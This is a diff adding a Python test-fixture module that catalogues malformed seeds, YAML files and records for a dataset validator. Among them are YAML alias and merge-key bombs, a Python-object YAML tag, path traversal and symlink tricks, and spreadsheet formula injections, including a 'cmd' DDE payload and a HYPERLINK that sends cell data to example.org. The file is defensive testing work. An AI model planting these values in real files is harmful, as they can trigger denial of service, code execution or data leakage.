@@ -1,0 +1,415 @@
+"""Mistakes that people make in a project, by what they break: seeds, YAML and records."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import NamedTuple, TypeAlias
+
+from conftest import edit, repin
+from defectors_data.corpus import files, limits
+
+A, B = "annotations/900_example.yaml", "annotations/901_second.yaml"
+SEED, SECOND = "seeds/900_example.txt", "seeds/901_second.txt"
+VOCABULARY, SPEAKERS, DATASET = "annotations/vocabulary.yaml", "annotations/speakers.yaml", "dataset.yaml"
+TOMBSTONES = "annotations/tombstones.yaml"
+MIB = 1024 * 1024
+
+Act: TypeAlias = Callable[[Path], None]
+
+
+class Bad(NamedTuple):
+    """A group, a mistake, and what makes it in a project."""
+
+    group: str
+    name: str
+    act: Act
+
+
+# ---- what can be done to a project -------------------------------------------------------------------------
+
+
+def swap(file: str, old: str, new: str) -> Act:
+    """Replace words that stand once in a file."""
+    return lambda root: edit(root, file, old, new)
+
+
+def holds(file: str, data: bytes | str) -> Act:
+    """Make a file hold something else."""
+    return lambda root: void((root / file).write_bytes(data.encode() if isinstance(data, str) else data))
+
+
+def turned(file: str, change: Callable[[bytes], bytes]) -> Act:
+    """Make a file hold something else, made from what it held."""
+    return lambda root: void((root / file).write_bytes(change((root / file).read_bytes())))
+
+
+def repinned(act: Act, stem: str = "900_example") -> Act:
+    """Do something to a seed, and pin the bytes that it has then."""
+    return both(act, lambda root: repin(root, stem))
+
+
+def longer(text: str) -> Act:
+    """Let the second seed go on behind its end, and pin it."""
+    return repinned(turned(SECOND, lambda data: data + b"\n" + text.encode()), "901_second")
+
+
+def both(*acts: Act) -> Act:
+    def act(root: Path) -> None:
+        for one in acts:
+            one(root)
+
+    return act
+
+
+def gone(path: str) -> Act:
+    return lambda root: shutil.rmtree(root / path) if (root / path).is_dir() else (root / path).unlink()
+
+
+def folder(path: str) -> Act:
+    return both(gone(path), lambda root: (root / path).mkdir())
+
+
+def link(path: str, target: Callable[[Path], Path]) -> Act:
+    """Move a file or folder out of the project, or wherever the target is, and put a link in its place."""
+
+    def act(root: Path) -> None:
+        there = target(root)
+        if not there.exists() and not there.is_symlink() and there.parent.exists():
+            shutil.move(root / path, there)
+        else:
+            gone(path)(root)
+        (root / path).symlink_to(there)
+
+    return act
+
+
+def sized(file: str, size: int) -> Act:
+    """Make a file large without writing it out."""
+    return lambda root: os.truncate(root / file, size)
+
+
+def void(_: object) -> None:
+    return None
+
+
+def note(typed: str) -> Act:
+    """Type something as a note that belongs to nobody."""
+    return swap(A, "note: The text tells of March 3rd; the year is that of the copyright line.", f"note: {typed}")
+
+
+def words(typed: str) -> Act:
+    """Type the words of a figure that belongs to nobody."""
+    return swap(A, "evidence: two inns\n", f"evidence: {typed}\n")
+
+
+def figure(key: str, old: str, new: str) -> Act:
+    """Type something else under a key of the first figure."""
+    return swap(
+        A,
+        f"    {key}: {old}\n    {'high' if key == 'value' else 'hedge'}",
+        f"    {key}: {new}\n    {'high' if key == 'value' else 'hedge'}",
+    )
+
+
+def as_of(typed: str) -> Act:
+    return swap(A, "    as_of: XXXX-03\n", f"    as_of: {typed}\n")
+
+
+def a_tiny_bomb() -> str:
+    """Return merge keys in 431 bytes that a safe loader spends half a minute on."""
+    rows = ["a0: &a0 {k: v}"]
+    rows += [f"a{i}: &a{i}\n  <<: [{', '.join([f'*a{i - 1}'] * 4)}]" for i in range(1, 12)]
+    return "\n".join(rows)[:431] + "\n"
+
+
+def tombstones(*rows: str) -> Act:
+    """List what was taken out, as if a takedown had written it."""
+    return holds(TOMBSTONES, "tombstones:\n" + "".join(f"  - {row}\n" for row in rows))
+
+
+STONE = "{table: testimonies, id: example-t99, date: 2020-01-31, reason: person"
+LAUGHS = "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
+
+# ---- the table ---------------------------------------------------------------------------------------------
+
+SEEDS: dict[str, Act] = {
+    "a byte that is no UTF-8": turned(SEED, lambda data: data.replace(b"Nobody wrote", b"Nob\xf3dy wrote")),
+    "half a character at the end": turned(SEED, lambda data: data + b"\xe2\x80"),
+    "an overlong form": turned(SEED, lambda data: data.replace(b"two inns", b"two\xc0\xa0inns")),
+    "a lone surrogate": turned(SEED, lambda data: data.replace(b"two inns", b"two \xed\xa0\x80inns")),
+    "UTF-16": turned(SEED, lambda data: data.decode().encode("utf-16")),
+    "a byte order mark": turned(SEED, lambda data: b"\xef\xbb\xbf" + data),
+    "a pinned byte order mark": repinned(turned(SEED, lambda data: b"\xef\xbb\xbf" + data)),
+    "CRLF after a checkout": turned(SEED, lambda data: data.replace(b"\n", b"\r\n")),
+    "a NUL": turned(SEED, lambda data: data.replace(b"two inns", b"two\0inns")),
+    "empty": holds(SEED, ""),
+    "nothing but white space, pinned": repinned(holds(SEED, " \n\u00a0\n\t")),
+    "a pinned seed with CRLF": repinned(turned(SEED, lambda data: data.replace(b"\n", b"\r\n"))),
+    "a carriage return in the middle of a line, pinned": repinned(swap(SEED, "two inns", "two\rinns")),
+    "a form feed, pinned": repinned(swap(SEED, "\n\nThey crossed", "\n\f\nThey crossed")),
+    "a control character of the upper range, pinned": repinned(swap(SEED, "two inns", "two\u0085inns")),
+    "a byte too large": sized(SEED, limits.LARGEST + 1),
+    "100 MB": sized(SEED, 100 * MIB),
+    "more words than anybody annotates": longer("and so on\n" * 99_000 + "so " * 3_000),
+    "more numbers than anybody annotates": longer("7 \n" * 30_001),
+    "more number words than anybody annotates": longer("hundred and hundred and\n" * 15_001),
+    "more quotation marks than anybody annotates": longer("'a' 'b'\n" * 15_001),
+    "more decades than anybody annotates": longer("a decade \n" * 30_001),
+    "more signs than any article has": longer(("a." * 20_000 + "\n") * 21),
+    "more signs than any article has, without letters": longer(("-" * 40_000 + "\n") * 11),
+    "more lines than any article has": longer("\n" * 100_000),
+    "a line of more letters than any paragraph has": longer("so it went " * 10_000),
+    "a line of nothing but spaces": longer(" " * 100_001),
+    "more letters than any script writes without a space": longer("a" * 50_001),
+    "missing": gone(SEED),
+    "a folder": folder(SEED),
+    "a link out of the project": link(SEED, lambda root: root.parent / "elsewhere.txt"),
+    "a link to a device": link(SEED, lambda _: Path("/dev/zero")),
+    "a link to itself": link(SEED, lambda root: root / SEED),
+    "a link to nothing": link(SEED, lambda root: root / "nowhere" / "x.txt"),
+    "a pipe": both(gone(SEED), lambda root: os.mkfifo(root / SEED)),
+    "a pipe that nobody annotates": lambda root: os.mkfifo(root / "seeds/902_third.txt"),
+    "a folder with the name of a seed": lambda root: (root / "seeds/902_third.txt").mkdir(),
+    "its ending in capitals": holds("seeds/902_third.TXT", "A third article.\n"),
+    "a file with another ending": holds("seeds/902_third.md", "A third article.\n"),
+    "in a folder of its own": both(
+        lambda root: (root / "seeds/more").mkdir(), holds("seeds/more/902_third.txt", "A third article.\n")
+    ),
+    "no seed and no annotations": both(gone(SEED), gone(SECOND), gone(A), gone(B)),
+    "one letter changed": swap(SEED, "two inns", "ten inns"),
+    "a line feed more at the end": turned(SEED, lambda data: data + b"\n"),
+    "a quoted word changed, pinned": repinned(swap(SEED, "They crossed by night", "They crossed by day")),
+    "no folder of seeds": gone("seeds"),
+    "a file in place of the folder": both(gone("seeds"), holds("seeds", "x")),
+    "the folder is a link out of the project": link("seeds", lambda root: root.parent / "elsewhere"),
+    "nobody annotates it": holds("seeds/902_third.txt", "A third article.\n"),
+    "annotated in a file with another ending": both(
+        holds("seeds/902_third.txt", "A third article.\n"), holds("annotations/902_third.yml", "source: {}\n")
+    ),
+    "its name mistyped": swap(A, "seed: 900_example.txt", "seed: 900_exmaple.txt"),
+    "the seed of another file": swap(B, "seed: 901_second.txt", "seed: 900_example.txt"),
+    "a name that leads out of the folder": swap(B, "seed: 901_second.txt", "seed: ../dataset.yaml"),
+    "the annotations of a seed are missing": gone(B),
+    "a name that another file's annotations have": holds("seeds/vocabulary.txt", "A third article.\n"),
+    "a name of a file that need not be there": holds("seeds/tombstones.txt", "A third article.\n"),
+}
+
+YAML: dict[str, Act] = {
+    "a quotation mark that is never closed": words('"two inns'),
+    "a colon in words without quotation marks": note("The year: that of the copyright line."),
+    "a tab before a key": swap(A, "    hedge: about\n", "\thedge: about\n"),
+    "a line indented too deep": swap(A, "    hedge: about\n", "      hedge: about\n"),
+    "a line not indented deep enough": swap(A, "    hedge: about\n", "   hedge: about\n"),
+    "a bracket that is never closed": swap(A, "themes: [hunger_pay, escape]", "themes: [hunger_pay, escape"),
+    "a comma missing between brackets": swap(A, "value: [Ada Example, Ben Example]", 'value: ["Ada" "Ben"]'),
+    "a dash without a space": swap(A, "      - Nobody wrote to us.", "      -Nobody wrote to us."),
+    "no space behind a colon": swap(A, "    hedge: about\n", "    hedge:about\n"),
+    "words that begin with a star": words("*two* inns"),
+    "words that begin with an ampersand": words("&two inns"),
+    "words that begin with a per cent sign": words("%two inns"),
+    "words that begin with an at sign": words("@two inns"),
+    "words in braces": words("{two inns}"),
+    "words in brackets": words("[[two] inns]"),
+    "words behind the sign of a block": words("| two inns"),
+    "a backslash that escapes nothing": words('"two \\inns"'),
+    "an escaped lone surrogate": words('"two \\ud800 inns"'),
+    "a key twice": swap(A, "    hedge: about\n", "    hedge: about\n    hedge: exact\n"),
+    "a dash left out before a record": swap(A, "  - id: example-f2\n", "    id: example-f2\n"),
+    "a section twice": turned(A, lambda data: data + b"\nfigures: []\n"),
+    "an anchor": words("&inns two inns"),
+    "an alias": words("*inns"),
+    "a billion laughs": turned(A, lambda data: LAUGHS.encode() + data),
+    "a merge key": swap(A, "  language: en\n  dateline", "  <<: {language: en}\n  dateline"),
+    "a small bomb of merge keys": holds(B, a_tiny_bomb()),
+    "a tag": swap(A, "    value: 1600\n", "    value: !!int 1600\n"),
+    "a tag that runs Python in some loaders": words("!!python/object/apply:os.getcwd []"),
+    "two documents": turned(A, lambda data: data + b"---\nsource: {}\n"),
+    "a key that is a list": turned(A, lambda data: data + b"? [a]\n: b\n"),
+    "nested too deep": swap(A, "themes: [hunger_pay, escape]", f"themes: {'[' * 60}{']' * 60}"),
+    "nested a hundred thousand deep": holds(B, "[" * 100_000),
+    "nested by dashes": holds(B, "- " * 100_000),
+    "a byte too large": sized(A, files.LARGEST + 1),
+    "100 MB": sized(VOCABULARY, 100 * MIB),
+    "8 MiB of tiny items": holds(B, "a: [" + "x," * (4 * MIB - 8) + "]\n"),
+    "a thousand faults of one kind": swap(A, "\nfigures:\n", "\nfigures:\n" + "  - id: example-f99\n" * 1000),
+    "an octal number": figure("value", "40", "050"),
+    "a sexagesimal number": figure("value", "40", "1:30"),
+    "a number with an exponent": figure("value", "40", "4e1"),
+    "a number with an underscore": figure("value", "40", "4_0"),
+    "a date in place of a number": figure("value", "40", "2019-05-02"),
+    "no in place of false": swap(A, "    reason: term\n", "    reason: term\n    every_occurrence: no\n"),
+    "a comment that cuts a quotation": both(
+        repinned(swap(SEED, "so aloud.", "so aloud in tract # 7 of them.")),
+        swap(
+            A,
+            "evidence: less than 1 percent of the 1,600-strong service has said so aloud",
+            ("evidence: less than 1 percent of the 1,600-strong service has said so aloud in tract # 7 of them"),
+        ),
+    ),
+    "a comment on the next line that cuts a quotation": both(
+        repinned(swap(SEED, "so aloud.", "so aloud in tract #7b of them.")),
+        swap(
+            A,
+            "evidence: less than 1 percent of the 1,600-strong service has said so aloud",
+            ("evidence: less than 1 percent of the 1,600-strong service has said so aloud in tract\n      #7b of them"),
+        ),
+    ),
+    "a comment in place of a quotation": words("# two inns"),
+    "a comment in place of words that need not be there": both(
+        repinned(swap(SEED, "They crossed by night", "# They crossed by night")),
+        swap(A, "  subtitle: They crossed by night, and", "  subtitle: # They crossed by night, and"),
+    ),
+    "U+0085 that hides a key": note("Of the line. # so\u0085  url: hidden"),
+    "U+2028 that hides a key": note("Of the line. # so\u2028  url: hidden"),
+    "U+2029": note("Of the\u2029line."),
+    "a carriage return alone, that hides a key": note("Of the line. # so\r  url: hidden"),
+    "an escape character": note("Of the \x1b[2Jline."),
+    "a NUL": note("Of the\0line."),
+    "a byte order mark in the middle": note("Of the \ufeffline."),
+    "empty": holds(A, ""),
+    "nothing but a comment": holds(A, "# to be done\n"),
+    "a list": holds(A, "- id: example\n"),
+    "one text": holds(A, "To be done.\n"),
+    "a picture": holds(A, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
+    "UTF-16": turned(A, lambda data: data.decode().encode("utf-16")),
+    "Latin-1": turned(A, lambda data: data.replace("’".encode(), b"\x92")),
+    "a folder": folder(A),
+    "a link out of the project": link(A, lambda root: root.parent / "elsewhere.yaml"),
+    "the folder is a link out of the project": link("annotations", lambda root: root.parent / "elsewhere"),
+    "the vocabulary is missing": gone(VOCABULARY),
+    "the vocabulary is empty": holds(VOCABULARY, ""),
+    "the shared speakers are empty": holds(SPEAKERS, "\n"),
+    "the dataset's facts are missing": gone(DATASET),
+    "the dataset's facts are empty": holds(DATASET, "# later\n"),
+}
+
+RECORDS: dict[str, Act] = {
+    "a key that nothing has": swap(A, "    place: Northern Isles\n", "    weather: fog\n"),
+    "a mistyped key": swap(A, "    hedge: about\n", "    hegde: about\n"),
+    "a key mistyped beyond recognition": swap(A, "  - id: example-f2\n", "  - name: example-f2\n"),
+    "a mistyped section": swap(A, "\nwaivers:\n", "\nwaiver:\n"),
+    "a value that is none of the allowed": swap(A, "    hedge: about\n", "    hedge: abuot\n"),
+    "a key missing": swap(A, "    hedge: about\n", ""),
+    "several keys missing": swap(A, "    hedge: about\n    unit: person\n", ""),
+    "a key without a value": swap(A, "    hedge: about\n", "    hedge:\n"),
+    "a record that is only begun": swap(A, "  - id: example-f2\n", "  - id: example-f99\n  - id: example-f2\n"),
+    "a section's key left out": swap(A, "\nwaivers:\n", "\n"),
+    "an id twice": swap(A, "  - id: example-f2\n", "  - id: example-f1\n"),
+    "an id twice in two files": swap(B, "  - id: second-iven\n", "  - id: mira-fenn\n"),
+    "a speaker who is not there": swap(A, "    attributed_to: harbour-office\n", "    attributed_to: harbour-ofice\n"),
+    "a speaker renamed where others refer to": swap(A, "  - id: mira-fenn\n", "  - id: mira-fen\n"),
+    "a shared speaker renamed": swap(SPEAKERS, "  - id: bruno-salt\n", "  - id: bruno-salz\n"),
+    "a shared name mistyped": swap(SPEAKERS, "name: Bruno Salt", "name: Bruno Sald"),
+    "a testimony that is not there": swap(A, "    testimony: example-t6\n", "    testimony: example-t66\n"),
+    "a repeat of nothing": swap(A, "    repeats: example-t5\n", "    repeats: example-t55\n"),
+    "the id of the source changed": swap(A, "  id: example\n", "  id: exempel\n"),
+    "not a number": figure("value", "40", ".nan"),
+    "infinite": figure("value", "40", ".inf"),
+    "huge": figure("value", "40", "1" + "0" * 400),
+    "negative": figure("value", "40", "-40"),
+    "with a sign": figure("value", "40", "+40"),
+    "with a comma": swap(A, "    value: 1600\n", "    value: 1,600\n"),
+    "digits of another script": figure("value", "40", "٤٠"),
+    "more decimals than anybody means": figure("value", "40", "40.12345678901"),
+    "bounds reversed": swap(A, "    low: 5\n    high: 7\n", "    low: 7\n    high: 5\n"),
+    "a day that February has not": as_of("2019-02-30"),
+    "a day that no February has": as_of("XXXX-02-30"),
+    "a thirteenth month": as_of("2019-13"),
+    "an interval that ends before it begins": as_of("2019-05/2019-03"),
+    "a date in words": as_of("March 3rd"),
+    "a date that would take for ever": as_of(f"'{'{' * 30}{'}' * 29}'"),
+    "an exponential year": as_of("Y17E700000000"),
+    "a month that is half said": as_of("2019-X2"),
+    "a day of release in another order": swap(DATASET, "released: 2020-02-29", "released: 29-02-2020"),
+    "a slash in an id": swap(A, "  - id: example-f2\n", "  - id: ../example-f2\n"),
+    "a dot in an id": swap(A, "  - id: example-f2\n", "  - id: example.f2\n"),
+    "a capital in an id": swap(A, "  - id: mira-fenn\n", "  - id: Mira-fenn\n"),
+    "a look-alike letter in an id": swap(A, "  - id: mira-fenn\n", "  - id: mirа-fenn\n"),
+    "a look-alike letter in a reference": swap(
+        A, "    speaker: mira-fenn\n    mode: direct", ("    speaker: mirа-fenn\n    mode: direct")
+    ),
+    "an id of a hundred letters": swap(A, "  - id: mira-fenn\n", f"  - id: {'m' * 100}\n"),
+    "an id that is not numbered": swap(A, "  - id: example-f2\n", "  - id: example-inns\n"),
+    "a note of five thousand letters": note("So " * 1700 + "on."),
+    "a line of a thousand letters": swap(A, "rights: Nobody", f"rights: {'Nobody ' * 150}"),
+    "a quotation of thirty thousand letters": words("two inns " * 3500),
+    "an escaped control character": note('"Of the \\e[2Jline."'),
+    "an escaped NUL": note('"Of the \\0line."'),
+    "an escaped character that turns what is read around": note('"Of the \\u202eline."'),
+    "a character that turns what is read around": note("Of the \u202eline."),
+    "a name that is turned around": swap(SPEAKERS, "name: Bruno Salt", 'name: "\\u202etlaS onurB"'),
+    "a tab in a line": swap(A, "rights: Nobody", 'rights: "No\\tbody"'),
+    "a note without words": note("'—'"),
+    "an empty quotation": words('""'),
+    "an empty list of themes": swap(A, "    themes: [hunger_pay, escape]\n", "    themes: []\n"),
+    "more parts than a quotation has": words("[" + "two inns, " * 101 + "]"),
+    "a text in place of a list": swap(A, "    themes: [hunger_pay, escape]\n", "    themes: escape\n"),
+    "a list in place of a text": swap(A, "rights: Nobody", "rights: [Nobody]"),
+    "a mapping in place of a text": swap(A, "rights: Nobody", "rights: {holder: Nobody}"),
+    "a list in place of a number": swap(A, "    value: 1600\n", "    value: [1600]\n"),
+    "a checksum in capitals": turned(
+        A, lambda data: re.sub(rb"sha256: \w+", lambda m: b"sha256: " + m[0][8:].upper(), data)
+    ),
+    "a checksum that is cut": turned(A, lambda data: re.sub(rb"(sha256: \w{60})\w+", rb"\1", data)),
+    "a language by its name": swap(A, "  language: en\n  dateline", "  language: English\n  dateline"),
+    "a version with a letter": swap(DATASET, "version: 1.2.3", "version: v1.2.3"),
+    "a term that is not defined": swap(A, "    measure: inns\n", "    measure: taverns\n"),
+    "a term that is defined no more": swap(VOCABULARY, "  - term: other\n", "  - term: others\n"),
+    "a term defined twice": swap(
+        VOCABULARY, "  - term: weather\n", "  - term: escape\n    definition: Again.\n  - term: weather\n"
+    ),
+    "an occurrence that is not there": swap(B, "occurrence: 2}", "occurrence: 3}"),
+    "an occurrence counted from nought": swap(B, "occurrence: 2}", "occurrence: 0}"),
+    "a quotation of other words": words("two taverns"),
+    "a quotation with another apostrophe": swap(A, '"It’s quiet tonight,"', '"It\'s quiet tonight,"'),
+    "a quotation with a no-break space": words('"two\\u00a0inns"'),
+    "a quotation with a character that cannot be seen": words("two in\u200bns"),
+    "a quotation with a look-alike letter": words("twо inns"),
+    "a quotation with a letter composed otherwise": swap(B, "a café owner’s boat.", "a cafe\u0301 owner’s boat."),
+    "a quotation that begins inside a word": words("wo inns"),
+    "a quotation that stands twice": words("them"),
+    "a quotation that leaves its number out": words("inns"),
+    "an escaped lone carriage return in a quotation": words('"two\\rinns"'),
+    "a withheld person's name": swap(A, "    anonymity: withheld\n", "    anonymity: withheld\n    name: Xq Zvbn\n"),
+    "a withheld person's age": swap(
+        A, "        evidence: one keeper\n", "        evidence: one keeper\n        age: 27\n"
+    ),
+    "a formula in a note": note("'=HYPERLINK(\"http://example.org/?\"&A1)'"),
+    "a formula with an at sign in a note": note("'@SUM(1+1)*cmd|'' /C calc''!A0'"),
+    "a formula with a minus in a note": note("-2+3+cmd|' /C calc'!A0"),
+    "a tab and a formula in a note": note('"\\t=1+1"'),
+    "a mistyped licence": swap(A, "gender: he rowed across at night", "gendre: he rowed across at night"),
+    "a section by the name of one record": swap(B, "\ntestimonies:\n", "\ntestimony:\n"),
+    "a section of the vocabulary by the name of one term": swap(VOCABULARY, "\nmeasures:\n", "\nmeasure:\n"),
+    "the only section of a file, mistyped": holds(SPEAKERS, "speaker: []\n"),
+    "a key of shared speakers by another name": swap(SPEAKERS, "gender: male", "sex: male"),
+    "a withheld person among the shared speakers": swap(
+        SPEAKERS, "speakers:\n", "speakers:\n  - {id: x-y, kind: person, role: other, anonymity: withheld}\n"
+    ),
+    "a name for a group": swap(A, "    kind: group\n", "    kind: group\n    anonymity: named\n    name: Xq Zvbn\n"),
+    "an unknown key on what was taken out": tombstones(f"{STONE}, Xq Zvbn: x}}"),
+    "a name for the reason of a takedown": tombstones(STONE.replace("person", "Xq Zvbn") + "}"),
+    "a name for the table of what was taken out": tombstones(STONE.replace("testimonies", "Xq Zvbn") + "}"),
+    "a name for the id of what was taken out": tombstones(STONE.replace("example-t99", "Xq Zvbn") + "}"),
+    "a section of what was taken out, mistyped": holds(TOMBSTONES, "Xq Zvbn: []\n"),
+    "a formula in plain words": swap(A, "counted: keepers who sleep in inns", 'counted: "-2+3"'),
+    "a formula in a definition": swap(VOCABULARY, "definition: How the keepers crossed.", 'definition: "=1+1"'),
+    "a formula in the rights": swap(B, "rights: Nobody", 'rights: "@SUM(1)"'),
+    "a formula in the title of the dataset": swap(DATASET, "title: Testimonies", "title: =Testimonies"),
+    "a name with a blank behind it": swap(A, "name: Mira Fenn", 'name: "Mira Fenn "'),
+    "a space without width in plain words": swap(
+        A, "counted: keepers who sleep in inns", 'counted: "keepers who sl\\u200beep in inns"'
+    ),
+    "letters that are tags": swap(A, "counted: keepers who sleep in inns", 'counted: "keepers\\U000E0041"'),
+    "a soft hyphen in a note": note('"Of the li\\u00adne."'),
+}
+
+BAD = [
+    Bad(group, name, act)
+    for group, table in (("seeds", SEEDS), ("yaml", YAML), ("records", RECORDS))
+    for name, act in table.items()
+]
